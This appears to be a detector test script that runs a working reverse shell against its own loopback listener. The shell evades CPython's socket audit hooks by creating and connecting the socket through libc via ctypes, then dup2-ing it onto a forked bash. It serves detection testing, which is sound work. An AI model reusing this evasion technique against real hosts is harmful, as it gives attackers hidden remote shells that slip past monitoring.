# technique: T1059.004 T1095 T1106
"""Reverse shell whose socket is made and connected by libc through ctypes (T1059.004, T1095, T1106).

socket(), connect() and dup2() are libc calls made with ctypes, so
CPython's socket.__new__ and socket.connect audit events never fire: the
connection exists only as an integer descriptor. A forked child dup2s it
onto 0/1/2 and os.execl's bash. (Our operator's listening socket is an
ordinary Python socket.)

A good detector raises a critical alert: a shell starts whose standard
streams are a network connection, even when the connection was made
outside Python's socket module.
"""
import ctypes
import os
import socket
import struct
import threading

def start_operator(commands=b"echo operator-sees-$(id -u)\nexit\n"):
    """Our own peer on 127.0.0.1: accepts one connection, types commands, reads until the shell ends."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(4)
    transcript = []

    def operator():
        try:
            conn, _ = listener.accept()
        except OSError:
            return
        conn.settimeout(3)
        conn.sendall(commands)
        data = b""
        try:
            while True:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
        except OSError:
            pass
        transcript.append(data)
        conn.close()

    thread = threading.Thread(target=operator, daemon=True)
    thread.start()
    return listener.getsockname()[1], thread, transcript

port, operator, transcript = start_operator()
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM
address = struct.pack("<HH4s8x", 2, socket.htons(port), bytes([127, 0, 0, 1]))
if libc.connect(fd, ctypes.c_char_p(address), len(address)) != 0:
    print("connect failed, errno", ctypes.get_errno())
else:
    pid = os.fork()
    if pid == 0:
        try:
            for target in (0, 1, 2):
                libc.dup2(fd, target)
            os.execl("/bin/bash", "bash", "--norc", "-i")
        finally:
            os._exit(1)
    os.close(fd)
    os.waitpid(pid, 0)
operator.join(3)
print("operator transcript:", transcript)
